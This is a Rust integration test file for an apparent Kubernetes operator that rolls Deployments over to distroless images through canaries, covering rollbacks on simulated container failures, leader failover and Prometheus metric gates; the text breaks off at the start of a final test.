//! DistrolessRollout on the real control plane: the real Deployment and
//! ReplicaSet controllers, the EndpointSlice controller, kwok honouring the
//! serving readiness gate, and kwok Stages making the canary's image fail as
//! a kubelet would report it.

use std::time::Duration;

use serde_json::{Value, json};
use testcluster::stages::{Failure, Target, observed};

use crate::support::*;

/// A Deployment `name` of `replicas` pods running `image`, and a Service in front of it.
pub(crate) async fn app(ns: &str, name: &str, replicas: i32, image: &str, security: Value) -> String {
    let mut container = json!({"name": "app", "image": image, "ports": [{"containerPort": 8080}]});
    if !security.is_null() {
        container["securityContext"] = security;
    }
    let manifest = json!({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, "namespace": ns},
         "spec": {"replicas": replicas, "selector": {"matchLabels": {"app": name}},
                  "template": {"metadata": {"labels": {"app": name}}, "spec": {"containers": [container]}}}},
        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": name, "namespace": ns},
         "spec": {"selector": {"app": name}, "ports": [{"port": 80, "targetPort": 8080}]}},
    ]});
    let out = kubectl_stdin(&["apply", "-f", "-"], &manifest.to_string()).await;
    assert!(out.status.success(), "{}", text(&out).1);
    wait_for("the Deployment's pods", Duration::from_secs(60), || async {
        let d = get_json(&["deployment", name, "-n", ns]).await?;
        (d["status"]["readyReplicas"] == replicas).then_some(())
    })
    .await;
    name.to_string()
}

pub(crate) async fn create_rollout(ns: &str, name: &str, deployment: &str, image: &str, extra: Value) {
    let mut spec = json!({"targetRef": {"name": deployment}, "containers": [{"name": "app", "image": image}]});
    if let (Some(s), Some(e)) = (spec.as_object_mut(), extra.as_object()) {
        s.extend(e.clone());
    }
    let r = json!({"apiVersion": "distrolessguard.dev/v1alpha1", "kind": "DistrolessRollout",
        "metadata": {"name": name, "namespace": ns}, "spec": spec});
    let out = kubectl_stdin(&["create", "-f", "-"], &r.to_string()).await;
    assert!(out.status.success(), "{}", text(&out).1);
}

/// A rollout `web` of the Deployment `web` to `registry.test/{ns}/web:1-distroless`.
pub(crate) async fn web_to_distroless(ns: &str, extra: Value) {
    create_rollout(ns, "web", "web", &format!("registry.test/{ns}/web:1-distroless"), extra).await;
}

async fn status(ns: &str, name: &str) -> Option<Value> {
    get_json(&["distrolessrollout", name, "-n", ns])
        .await
        .map(|r| r["status"].clone())
}

pub(crate) async fn wait_phase(ns: &str, name: &str, phase: &str, seconds: u64) -> Value {
    wait_for(
        &format!("rollout {name} to be {phase}"),
        Duration::from_secs(seconds),
        || async {
            let s = status(ns, name).await?;
            if s["phase"] == "RolledBack" && phase != "RolledBack" {
                panic!("rollout {name} rolled back: {s:#}");
            }
            if s["phase"] != phase {
                // Said at every look (shown only when the test fails): where the rollout stood.
                eprintln!("rollout {name}: {} ({})", s["phase"], s["message"]);
            }
            (s["phase"] == phase).then_some(s)
        },
    )
    .await
}

/// The managed-fields entries of the Deployment written by distroless-guard, and the Deployment.
async fn ours_in(ns: &str, deployment: &str) -> (String, Value) {
    let d = kubectl_ok(&[
        "get",
        "deployment",
        deployment,
        "-n",
        ns,
        "--show-managed-fields",
        "-o",
        "json",
    ])
    .await;
    let d: Value = serde_json::from_str(&d).unwrap();
    let ours = d["metadata"]["managedFields"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["manager"] == "distroless-guard")
        .map(Value::to_string)
        .collect::<String>();
    (ours, d)
}

/// The pod IPs a Service's EndpointSlices list, each with whether it is ready.
async fn endpoints(ns: &str, service: &str) -> Vec<(String, bool)> {
    let Some(slices) = get_json(&[
        "endpointslices",
        "-n",
        ns,
        "-l",
        &format!("kubernetes.io/service-name={service}"),
    ])
    .await
    else {
        return Vec::new();
    };
    slices["items"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|s| s["endpoints"].as_array().cloned().unwrap_or_default())
        .flat_map(|e| {
            let ready = e["conditions"]["ready"] == true;
            e["addresses"]
                .as_array()
                .cloned()
                .unwrap_or_default()
                .into_iter()
                .filter_map(move |a| Some((a.as_str()?.to_string(), ready)))
        })
        .collect()
}

/// The pod IPs a Service's EndpointSlices list as ready.
async fn ready_endpoints(ns: &str, service: &str) -> Vec<String> {
    endpoints(ns, service)
        .await
        .into_iter()
        .filter_map(|(ip, ready)| ready.then_some(ip))
        .collect()
}

async fn canary_pods(ns: &str, rollout: &str) -> Vec<Value> {
    get_json(&[
        "pods",
        "-n",
        ns,
        "-l",
        &format!("distrolessguard.dev/rollout={rollout}"),
    ])
    .await
    .and_then(|l| l["items"].as_array().cloned())
    .unwrap_or_default()
    .into_iter()
    .filter(|p| p["metadata"]["deletionTimestamp"].is_null())
    .collect()
}

fn image_of(d: &Value) -> String {
    d["spec"]["template"]["spec"]["containers"][0]["image"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

async fn events_of(ns: &str, rollout: &str) -> Vec<Value> {
    get_json(&["events.events.k8s.io", "-n", ns])
        .await
        .and_then(|l| l["items"].as_array().cloned())
        .unwrap_or_default()
        .into_iter()
        .filter(|e| e["regarding"]["name"] == rollout && e["regarding"]["kind"] == "DistrolessRollout")
        .collect()
}

#[tokio::test]
async fn a_healthy_rollout_moves_through_staging_and_weights_without_touching_the_deployment_until_100() {
    let release = Release::install("distroless-guard-roll", &[]).await;
    let ns = release.namespace("roll", &[]).await;
    let standard = format!("registry.test/{ns}/web:1.0");
    let distroless = format!("registry.test/{ns}/web:1.0-distroless");
    app(&ns, "web", 4, &standard, Value::Null).await;
    let before = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    // The EndpointSlice controller lists the pods after the Deployment counts them ready.
    wait_for(
        "the four stable pods in the endpoints",
        Duration::from_secs(30),
        || async { (ready_endpoints(&ns, "web").await.len() == 4).then_some(()) },
    )
    .await;

    create_rollout(
        &ns,
        "web",
        "web",
        &distroless,
        json!({"steps": [{"staging": {"replicas": 1}, "bakeSeconds": 4}, {"weight": 20, "bakeSeconds": 4},
                         {"weight": 50, "bakeSeconds": 4}, {"weight": 100}]}),
    )
    .await;
    let s = wait_phase(&ns, "web", "Staging", 60).await;
    assert!(s["preflight"]["passed"] == true, "{s:#}");
    // Staging: the canary pod runs but is not an endpoint.
    let pod = wait_for(
        "the staging pod with its containers ready",
        Duration::from_secs(30),
        || async {
            canary_pods(&ns, "web").await.into_iter().find(|p| {
                p["status"]["conditions"].as_array().is_some_and(|c| {
                    c.iter()
                        .any(|c| c["type"] == "ContainersReady" && c["status"] == "True")
                })
            })
        },
    )
    .await;
    let canary_ip = pod["status"]["podIP"].as_str().unwrap().to_string();
    assert_eq!(pod["spec"]["containers"][0]["image"], distroless.as_str());
    // Proof the EndpointSlice controller had its chance: it lists the pod.
    let (_, ready) = wait_for(
        "the staging pod listed in the EndpointSlice",
        Duration::from_secs(30),
        || async { endpoints(&ns, "web").await.into_iter().find(|(ip, _)| *ip == canary_ip) },
    )
    .await;
    assert!(!ready, "a staging pod took traffic");
    let during = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    assert_eq!(during["metadata"]["generation"], before["metadata"]["generation"]);
    assert_eq!(
        image_of(&during),
        standard,
        "the Deployment is untouched during the canary"
    );

    // 20%: one canary pod next to four, in the endpoints.
    let s = wait_phase(&ns, "web", "Canary", 30).await;
    assert_eq!(s["desiredWeight"], 20, "{s:#}");
    wait_for(
        "the canary pod in the Service's endpoints",
        Duration::from_secs(30),
        || async { ready_endpoints(&ns, "web").await.contains(&canary_ip).then_some(()) },
    )
    .await;
    let s = wait_for("the effective weight", Duration::from_secs(30), || async {
        status(&ns, "web").await.filter(|s| s["effectiveWeight"] == 20)
    })
    .await;
    assert_eq!(s["canary"]["replicas"], 1);
    let during = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    assert_eq!(during["metadata"]["generation"], before["metadata"]["generation"]);

    let s = wait_phase(&ns, "web", "Succeeded", 120).await;
    assert_eq!(
        s["conditions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["type"] == "Ready")
            .unwrap()["status"],
        "True"
    );
    let after = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    assert_eq!(image_of(&after), distroless);
    assert_eq!(after["spec"]["replicas"], 4, "the replicas are the Deployment's own");
    let rs = get_json(&["replicasets", "-n", &ns, "-l", "distrolessguard.dev/rollout=web"])
        .await
        .unwrap();
    assert!(
        rs["items"].as_array().unwrap().is_empty(),
        "the canary ReplicaSet is gone"
    );
    // Only the image is ours in the Deployment.
    let (ours, _) = ours_in(&ns, "web").await;
    assert!(
        !ours.is_empty(),
        "the promotion is a server-side apply by distroless-guard"
    );
    assert!(ours.contains("f:image") && !ours.contains("f:replicas"), "{ours}");
    let events: Vec<String> = events_of(&ns, "web")
        .await
        .iter()
        .map(|e| e["reason"].as_str().unwrap().to_string())
        .collect();
    for reason in [
        "PreflightPassed",
        "StepStarted",
        "StepCompleted",
        "Promoting",
        "Succeeded",
    ] {
        assert!(events.contains(&reason.to_string()), "no {reason} Event: {events:?}");
    }
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn every_kind_of_canary_failure_rolls_back_long_before_its_bake_ends_with_its_reason_and_hint() {
    let release = Release::install("distroless-guard-fail", &[]).await;
    let ns = release.namespace("fail", &[]).await;
    let sh = "exec: \"sh\": executable file not found in $PATH";
    let cases: Vec<(&str, Failure, &str, &str)> = vec![
        ("crash", observed::shell_in_distroless(300), "CrashLoopBackOff", "shell"),
        (
            "flap",
            Failure::RestartsWhileReady { every_ms: 300 },
            "Restarts",
            "logs",
        ),
        ("root", observed::root_image(), "CreateContainerConfigError", ":nonroot"),
        (
            "create",
            Failure::Waiting {
                reason: "CreateContainerError".into(),
                message: format!("failed to create containerd task: {sh}"),
            },
            "CreateContainerError",
            "shell",
        ),
        (
            "run",
            Failure::Waiting {
                reason: "RunContainerError".into(),
                message: "exec: \"/docker-entrypoint.sh\": no such file or directory".into(),
            },
            "RunContainerError",
            "not in the distroless image",
        ),
        (
            "pull",
            Failure::Waiting {
                reason: "ImagePullBackOff".into(),
                message: "Back-off pulling image".into(),
            },
            "ImagePullBackOff",
            "cannot be pulled",
        ),
        (
            "name",
            Failure::Waiting {
                reason: "InvalidImageName".into(),
                message: "couldn't parse image name".into(),
            },
            "InvalidImageName",
            "not valid",
        ),
        ("oom", Failure::OomKilled { every_ms: 500 }, "OOMKilled", "memory"),
        ("notready", Failure::NotReady, "ReadyTimeout", "exec readiness probe"),
    ];
    for (case, failure, _, _) in &cases {
        let image = format!("registry.test/{ns}/{case}:distroless");
        cp().create_stage(&failure.stage(&format!("{ns}-{case}"), &Target::Image(image)))
            .await
            .unwrap();
    }
    for (case, _, _, _) in &cases {
        app(&ns, case, 2, &format!("registry.test/{ns}/{case}:1.0"), Value::Null).await;
        create_rollout(
            &ns,
            case,
            case,
            &format!("registry.test/{ns}/{case}:distroless"),
            json!({"steps": [{"weight": 50, "bakeSeconds": 120}, {"weight": 100}],
                   "failure": {"readyTimeoutSeconds": 4, "imagePullGraceSeconds": 2}}),
        )
        .await;
    }
    for (case, _, reason, hint) in &cases {
        // The bound (60 s, generous for a busy machine) is half the bake: the
        // failure rolled it back, not the bake's end. How fast is the rollout
        // bench's figure (`detect_p50_ms`).
        let s = wait_phase(&ns, case, "RolledBack", 60).await;
        let f = &s["failure"];
        assert_eq!(f["reason"], *reason, "{case}: {s:#}");
        assert!(
            f["hint"].as_str().unwrap().contains(hint),
            "{case}: hint {:?}",
            f["hint"]
        );
        assert!(f["pod"].is_string() && f["container"] == "app", "{case}: {f}");
        let stalled = s["conditions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["type"] == "Stalled")
            .unwrap()
            .clone();
        assert_eq!(stalled["status"], "True");
        let warning = events_of(&ns, case)
            .await
            .into_iter()
            .find(|e| e["reason"] == "RolledBack");
        assert!(
            warning.is_some_and(|e| e["type"] == "Warning"),
            "{case}: no Warning Event"
        );
        let d = get_json(&["deployment", case, "-n", &ns]).await.unwrap();
        assert_eq!(d["metadata"]["generation"], 1, "{case}: the Deployment was touched");
        // Closed and scaled to zero: no canary pod serves.
        wait_for(
            "the canary to be gone from the endpoints",
            Duration::from_secs(30),
            || async {
                let ips = ready_endpoints(&ns, case).await;
                (ips.len() == 2).then_some(())
            },
        )
        .await;
    }
    for (case, _, _, _) in &cases {
        cp().delete_stage(&format!("{ns}-{case}")).await.unwrap();
    }
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn a_canary_that_starts_crash_looping_while_the_git_change_is_awaited_rolls_back() {
    let release = Release::install("distroless-guard-gitops", &[]).await;
    let ns = release.namespace("gitops", &[]).await;
    // Pods labelled `crash=now` crash as a shell in a distroless image does:
    // the label is set only once the hold has begun.
    let stage = format!("{ns}-crash");
    let crash = Target::Label("test.distrolessguard.dev/crash".into(), "now".into());
    cp().create_stage(&observed::shell_in_distroless(300).stage(&stage, &crash))
        .await
        .unwrap();
    let standard = format!("registry.test/{ns}/web:1");
    app(&ns, "web", 2, &standard, Value::Null).await;
    web_to_distroless(
        &ns,
        json!({"promotion": "AwaitGitOps", "steps": [{"weight": 50, "bakeSeconds": 1}, {"weight": 100}]}),
    )
    .await;
    wait_phase(&ns, "web", "Promoting", 60).await;
    wait_for("the hold for the Git change", Duration::from_secs(30), || async {
        status(&ns, "web").await.filter(|s| {
            s["message"]
                .as_str()
                .is_some_and(|m| m.contains("until the Deployment's template carries the distroless images"))
        })
    })
    .await;
    let serving = canary_pods(&ns, "web").await;
    assert!(!serving.is_empty(), "the held canary runs");
    wait_for("the held canary in the endpoints", Duration::from_secs(30), || async {
        let ips = ready_endpoints(&ns, "web").await;
        serving
            .iter()
            .all(|p| {
                p["status"]["podIP"]
                    .as_str()
                    .is_some_and(|ip| ips.iter().any(|i| i == ip))
            })
            .then_some(())
    })
    .await;
    // Hours into the hold, as far as the canary knows: it starts crashing.
    for p in &serving {
        let name = p["metadata"]["name"].as_str().unwrap();
        kubectl_ok(&["label", "pod", name, "-n", &ns, "test.distrolessguard.dev/crash=now"]).await;
    }
    let s = wait_phase(&ns, "web", "RolledBack", 60).await;
    assert_eq!(s["failure"]["reason"], "CrashLoopBackOff", "{s:#}");
    let d = get_json(&["deployment", "web", "-n", &ns]).await.unwrap();
    assert_eq!(
        image_of(&d),
        standard,
        "the Deployment was never patched in AwaitGitOps"
    );
    wait_for("the canary out of the endpoints", Duration::from_secs(30), || async {
        let ips = ready_endpoints(&ns, "web").await;
        (ips.len() == 2
            && !serving.iter().any(|p| {
                p["status"]["podIP"]
                    .as_str()
                    .is_some_and(|ip| ips.iter().any(|i| i == ip))
            }))
        .then_some(())
    })
    .await;
    cp().delete_stage(&stage).await.unwrap();
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn a_failed_promotion_patches_the_standard_images_back() {
    let release = Release::install("distroless-guard-promo", &[]).await;
    let ns = release.namespace("promo", &[]).await;
    let standard = format!("registry.test/{ns}/api:2.0");
    let distroless = format!("registry.test/{ns}/api:2.0-distroless");
    app(&ns, "api", 2, &standard, Value::Null).await;
    // The distroless image crashes; promotion is the only step, so it is the
    // Deployment's own rolling update that meets the failure.
    let stage = format!("{ns}-promo");
    let crash = Failure::CrashLoop {
        every_ms: 300,
        exit_code: 1,
        message: "boom".into(),
    };
    cp().create_stage(&crash.stage(&stage, &Target::Image(distroless.clone())))
        .await
        .unwrap();
    create_rollout(&ns, "api", "api", &distroless, json!({"steps": [{"weight": 100}]})).await;
    let s = wait_phase(&ns, "api", "RolledBack", 90).await;
    assert_eq!(s["failure"]["reason"], "CrashLoopBackOff", "{s:#}");
    let d = wait_for(
        "the standard image back in the Deployment",
        Duration::from_secs(30),
        || async {
            let d = get_json(&["deployment", "api", "-n", &ns]).await?;
            (image_of(&d) == standard).then_some(d)
        },
    )
    .await;
    assert!(
        d["metadata"]["generation"].as_i64().unwrap() >= 3,
        "patched to distroless, then back"
    );
    cp().delete_stage(&stage).await.unwrap();
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn a_namespace_made_stricter_mid_rollout_fails_on_the_replica_sets_failed_create() {
    let release = Release::install("distroless-guard-psa-roll", &[]).await;
    let ns = release.namespace("stricter", &[]).await;
    app(&ns, "web", 2, &format!("registry.test/{ns}/web:1"), Value::Null).await;
    web_to_distroless(
        &ns,
        json!({"steps": [{"staging": {"replicas": 1}, "bakeSeconds": 4}, {"weight": 50, "bakeSeconds": 60}, {"weight": 100}]}),
    )
    .await;
    wait_phase(&ns, "web", "Staging", 60).await;
    // The namespace now enforces the restricted Pod Security Standard; the
    // pods of the next step are refused.
    kubectl_ok(&[
        "label",
        "namespace",
        &ns,
        "pod-security.kubernetes.io/enforce=restricted",
    ])
    .await;
    let s = wait_phase(&ns, "web", "RolledBack", 60).await;
    let f = &s["failure"];
    assert_eq!(f["reason"], "FailedCreate", "{s:#}");
    assert!(f["message"].as_str().unwrap().contains("PodSecurity"), "{f}");
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

#[tokio::test]
async fn a_restarted_leader_resumes_mid_bake_and_a_git_change_rebuilds_the_canary_without_fighting_the_hpa() {
    let mut release = Release::install("distroless-guard-resume", &[]).await;
    let ns = release.namespace("resume", &[]).await;
    app(&ns, "web", 2, &format!("registry.test/{ns}/web:1"), Value::Null).await;
    web_to_distroless(
        &ns,
        json!({"steps": [{"weight": 50, "bakeSeconds": 20}, {"weight": 100}]}),
    )
    .await;
    let s = wait_for("the step's pods ready", Duration::from_secs(60), || async {
        status(&ns, "web").await.filter(|s| s["stepReadyAt"].is_string())
    })
    .await;
    let (started, ready) = (s["stepStartedAt"].clone(), s["stepReadyAt"].clone());
    let canary = s["canary"]["replicaSet"].clone();
    // The leader dies mid-bake; the other replica picks the step up from the status.
    let lease = format!("{}-leader", release.name);
    let holder =
        get_json(&["lease", &lease, "-n", &release.namespace]).await.unwrap()["spec"]["holderIdentity"].clone();
    let i = release.operators.iter().position(|o| holder == o.pod.as_str()).unwrap();
    release.operators.remove(i).kill();
    let webhook = format!("{}-webhook", release.name);
    wait_out_of_endpoints(&release.namespace, &webhook, holder.as_str().unwrap()).await;
    let leader = wait_for("another leader", Duration::from_secs(30), || async {
        let l = get_json(&["lease", &lease, "-n", &release.namespace]).await?;
        let h = &l["spec"]["holderIdentity"];
        (!h.is_null() && *h != holder).then(|| h.as_str().unwrap().to_string())
    })
    .await;
    // Proof the new leader looked at the rollout: its own process reports the phase.
    let health = release.operators.iter().find(|o| o.pod == leader).unwrap().health;
    let seen = format!("distroless_guard_rollout_phase{{namespace=\"{ns}\",name=\"web\",phase=\"Canary\"}} 1");
    wait_for(
        "the new leader's reconcile of the rollout",
        Duration::from_secs(30),
        || async {
            let mut curl = std::process::Command::new("curl");
            curl.args(["-sf", "--max-time", "10", &format!("http://{health}/metrics")]);
            let out = output(curl).await;
            String::from_utf8_lossy(&out.stdout).contains(&seen).then_some(())
        },
    )
    .await;
    let s = status(&ns, "web").await.unwrap();
    assert_eq!(
        (s["stepStartedAt"].clone(), s["stepReadyAt"].clone()),
        (started.clone(), ready.clone()),
        "the step did not restart"
    );
    assert_eq!(s["canary"]["replicaSet"], canary);
    assert_eq!(s["currentStep"], 0);

    // The HPA (played by a scale, as it would do) doubles the Deployment: the canary follows.
    kubectl_ok(&["scale", "deployment/web", "-n", &ns, "--replicas=4"]).await;
    wait_for(
        "the canary to follow the Deployment's size",
        Duration::from_secs(30),
        || async { status(&ns, "web").await.filter(|s| s["canary"]["replicas"] == 4) },
    )
    .await;
    // A Git change to the template: the canary is rebuilt and the step starts over.
    kubectl_ok(&["set", "env", "deployment/web", "-n", &ns, "FEATURE=on"]).await;
    let s = wait_for(
        "a new canary from the new template",
        Duration::from_secs(30),
        || async { status(&ns, "web").await.filter(|s| s["canary"]["replicaSet"] != canary) },
    )
    .await;
    assert_ne!(s["stepStartedAt"], started);
    let events: Vec<String> = events_of(&ns, "web")
        .await
        .iter()
        .map(|e| e["reason"].as_str().unwrap().to_string())
        .collect();
    assert!(events.contains(&"TemplateChanged".to_string()), "{events:?}");
    let s = wait_phase(&ns, "web", "Succeeded", 240).await;
    assert_eq!(s["currentStep"], 1);
    let (ours, d) = ours_in(&ns, "web").await;
    assert_eq!(d["spec"]["replicas"], 4, "the HPA's replicas stay");
    assert!(!ours.contains("f:replicas"), "{ours}");
    let env = &d["spec"]["template"]["spec"]["containers"][0]["env"];
    assert_eq!(env[0]["name"], "FEATURE", "the Git change stays");
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

/// A tiny exporter: `/metrics` serves `app_error_ratio <value>`.
async fn exporter() -> (std::net::SocketAddr, std::sync::Arc<std::sync::Mutex<f64>>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let value = std::sync::Arc::new(std::sync::Mutex::new(0.0f64));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let v = value.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            let v = *v.lock().unwrap();
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = s.read(&mut buf).await;
                let body = format!("# TYPE app_error_ratio gauge\napp_error_ratio {v}\n");
                let _ = s
                    .write_all(format!("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len()).as_bytes())
                    .await;
            });
        }
    });
    (addr, value)
}

/// A real Prometheus (Debian's `prometheus`) scraping the test [`exporter`]
/// every second; with `web`, behind TLS and basic authentication.
struct Prometheus {
    address: String,
    errors: std::sync::Arc<std::sync::Mutex<f64>>,
    _process: testcluster::process::Process,
    _dir: tempfile::TempDir,
}

/// How a test Prometheus is protected: its serving certificate, its CA (PEM)
/// and one user's name and password.
struct PrometheusWeb {
    cert: crate::tls::ServingCert,
    ca_pem: String,
    user: &'static str,
    password: &'static str,
}

async fn prometheus(web: Option<&PrometheusWeb>) -> Prometheus {
    let (exporter, errors) = exporter().await;
    let dir = tempfile::tempdir().unwrap();
    let prom_port = testcluster::free_port();
    std::fs::write(
        dir.path().join("prometheus.yml"),
        format!("global: {{scrape_interval: 1s, evaluation_interval: 1s}}\nscrape_configs:\n- job_name: app\n  static_configs:\n  - targets: ['{exporter}']\n"),
    )
    .unwrap();
    let mut cmd = std::process::Command::new("prometheus");
    cmd.arg(format!("--config.file={}", dir.path().join("prometheus.yml").display()))
        .arg(format!("--storage.tsdb.path={}", dir.path().join("data").display()))
        .arg(format!("--web.listen-address=127.0.0.1:{prom_port}"));
    let mut curl = vec!["-sf".to_string()];
    let scheme = match web {
        None => "http",
        Some(web) => {
            let (cert, key) = web.cert.write(dir.path());
            let ca = dir.path().join("ca.crt");
            std::fs::write(&ca, &web.ca_pem).unwrap();
            // Prometheus keeps only bcrypt hashes of its users' passwords.
            let hash = bcrypt::hash(web.password, 4).unwrap();
            let config = json!({"tls_server_config": {"cert_file": cert, "key_file": key},
                "basic_auth_users": {web.user: hash}});
            std::fs::write(dir.path().join("web.yml"), config.to_string()).unwrap();
            cmd.arg(format!("--web.config.file={}", dir.path().join("web.yml").display()));
            curl.extend([
                "--cacert".into(),
                ca.display().to_string(),
                "-u".into(),
                format!("{}:{}", web.user, web.password),
            ]);
            "https"
        }
    };
    let log = dir.path().join("prometheus.log");
    let process = testcluster::process::Process::spawn("prometheus", cmd, &log)
        .unwrap_or_else(|e| panic!("cannot start prometheus ({e}); install it with: apt-get install prometheus"));
    let address = format!("{scheme}://127.0.0.1:{prom_port}");
    wait_for("Prometheus to scrape the exporter", Duration::from_secs(60), || async {
        let mut query = std::process::Command::new("curl");
        query
            .args(["--max-time", "10"])
            .args(&curl)
            .arg(format!("{address}/api/v1/query?query=app_error_ratio"));
        let out = output(query).await;
        String::from_utf8_lossy(&out.stdout)
            .contains("\"app_error_ratio\"")
            .then_some(())
    })
    .await;
    Prometheus {
        address,
        errors,
        _process: process,
        _dir: dir,
    }
}

#[tokio::test]
async fn a_rising_error_rate_in_prometheus_rolls_the_canary_back() {
    let prom = prometheus(None).await;
    let (address, errors) = (&prom.address, &prom.errors);
    let release = Release::install("distroless-guard-metric", &[]).await;
    let ns = release.namespace("metric", &[]).await;
    app(&ns, "web", 2, &format!("registry.test/{ns}/web:1"), Value::Null).await;
    web_to_distroless(
        &ns,
        json!({"steps": [{"weight": 50, "bakeSeconds": 300}, {"weight": 100}],
               "metrics": [{"name": "errors", "address": address, "query": "app_error_ratio", "threshold": 0.05}]}),
    )
    .await;
    wait_for("the step to bake", Duration::from_secs(60), || async {
        status(&ns, "web").await.filter(|s| s["stepReadyAt"].is_string())
    })
    .await;
    // Proof the gate had its chance: two readings counted while baking.
    let since = status(&ns, "web").await.unwrap()["metricsReadAt"].clone();
    let s = two_readings_after(&ns, &since).await;
    assert_eq!(s["phase"], "Canary", "a healthy error rate passes: {s:#}");
    assert!(s.get("metricFailures").is_none(), "{s:#}");
    *errors.lock().unwrap() = 0.4;
    let s = wait_phase(&ns, "web", "RolledBack", 60).await;
    assert_eq!(s["failure"]["reason"], "MetricGate", "{s:#}");
    assert!(s["failure"]["message"].as_str().unwrap().contains("0.4"), "{s:#}");
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

/// The rollout `web`'s status once a metric gate's reading failed (holding the step).
async fn wait_metric_error(ns: &str, what: &str) -> Value {
    wait_for(what, Duration::from_secs(90), || async {
        status(ns, "web")
            .await
            .filter(|s| s["metricErrors"]["errors"].as_u64().is_some_and(|n| n >= 1))
    })
    .await
}

/// Two metric readings counted (`metricsReadAt` moved twice) after `since`:
/// proof the gate had its chance.
async fn two_readings_after(ns: &str, since: &Value) -> Value {
    let mut read_at = since.clone();
    for reading in 1..=2 {
        read_at = wait_for(
            &format!("metric reading {reading}"),
            Duration::from_secs(60),
            || async {
                let s = status(ns, "web").await?;
                (s["metricsReadAt"].is_string() && s["metricsReadAt"] != read_at).then(|| s["metricsReadAt"].clone())
            },
        )
        .await;
    }
    status(ns, "web").await.unwrap()
}

#[tokio::test]
async fn a_metric_gate_reads_a_real_prometheus_over_https_with_basic_auth_and_the_ca_from_a_secret() {
    let ca = crate::tls::TestCa::new("prometheus-ca");
    let web = PrometheusWeb {
        cert: ca.serving_cert(1),
        ca_pem: ca.cert_pem.clone(),
        user: "prom",
        password: "pa ss",
    };
    let prom = prometheus(Some(&web)).await;
    // Without the password Prometheus refuses: the gate below reads only with it.
    let mut anonymous = std::process::Command::new("curl");
    anonymous
        .args(["-s", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "-k"])
        .arg(format!("{}/api/v1/query?query=up", prom.address));
    let anonymous = output(anonymous).await;
    assert_eq!(String::from_utf8_lossy(&anonymous.stdout), "401");

    let release = Release::install("distroless-guard-promauth", &[]).await;
    let ns = release.namespace("promauth", &[]).await;
    let secret = |password: &str| {
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "prom", "namespace": ns},
            "stringData": {"username": "prom", "password": password, "ca.crt": web.ca_pem}})
        .to_string()
    };
    let out = kubectl_stdin(&["apply", "-f", "-"], &secret("wrong")).await;
    assert!(out.status.success(), "{}", text(&out).1);
    app(&ns, "web", 2, &format!("registry.test/{ns}/web:1"), Value::Null).await;
    web_to_distroless(
        &ns,
        json!({"steps": [{"weight": 50, "bakeSeconds": 300}, {"weight": 100}],
               "metrics": [{"name": "errors", "address": prom.address, "query": "app_error_ratio", "threshold": 0.05,
                            "consecutiveErrorLimit": 100,
                            "auth": {"secretName": "prom", "usernameKey": "username", "passwordKey": "password", "caKey": "ca.crt"}}]}),
    )
    .await;
    // A wrong password: each reading is an error that holds the step.
    let held = wait_metric_error(&ns, "a refused reading").await;
    assert!(
        held["message"]
            .as_str()
            .unwrap()
            .contains("401 Unauthorized: check the gate's credentials"),
        "{held:#}"
    );
    assert_eq!(held["phase"], "Canary", "{held:#}");
    // The right one: readings count as healthy, the errors are forgotten.
    let out = kubectl_stdin(&["apply", "-f", "-"], &secret(web.password)).await;
    assert!(out.status.success(), "{}", text(&out).1);
    let healthy = wait_for("a healthy reading", Duration::from_secs(90), || async {
        status(&ns, "web").await.filter(|s| s.get("metricErrors").is_none())
    })
    .await;
    let s = two_readings_after(&ns, &healthy["metricsReadAt"]).await;
    assert_eq!(s["phase"], "Canary", "{s:#}");
    assert!(
        s.get("metricErrors").is_none() && s.get("metricFailures").is_none(),
        "{s:#}"
    );
    *prom.errors.lock().unwrap() = 0.4;
    let s = wait_phase(&ns, "web", "RolledBack", 60).await;
    assert_eq!(s["failure"]["reason"], "MetricGate", "{s:#}");
    let _ = release.uninstall().await;
    kubectl_ok(&["delete", "namespace", &ns, "--wait=false"]).await;
}

/// The chart's ClusterRole of `release` without the verb `verb` on ReplicaSets
/// (`None`: as the chart made it), replaced in the cluster.
async fn replica_set_verbs(role: &Value, without: Option<&str>) {
    let mut role = role.clone();
    role["metadata"].as_object_mut().unwrap().remove("resourceVersion");
    if let Some(verb) = without {
        for rule in role["rules"].as_array_mut().unwrap() {
            if rule["resources"] == json!(["replicasets"]) {
                rule["verbs"].as_array_mut().unwrap().retain(|v| v != verb);
            }
        }
    }
    let out = kubectl_stdin(&["replace", "-f", "-"], &role.to_string()).await;
    assert!(out.status.success(), "{}", text(&out).1);
}

#[tokio::test]
async fn a_rollback_decided_on_a_one_off_metric_spike_survives_the_operator_being_killed_before_it_scaled_the_canary_down()
 {
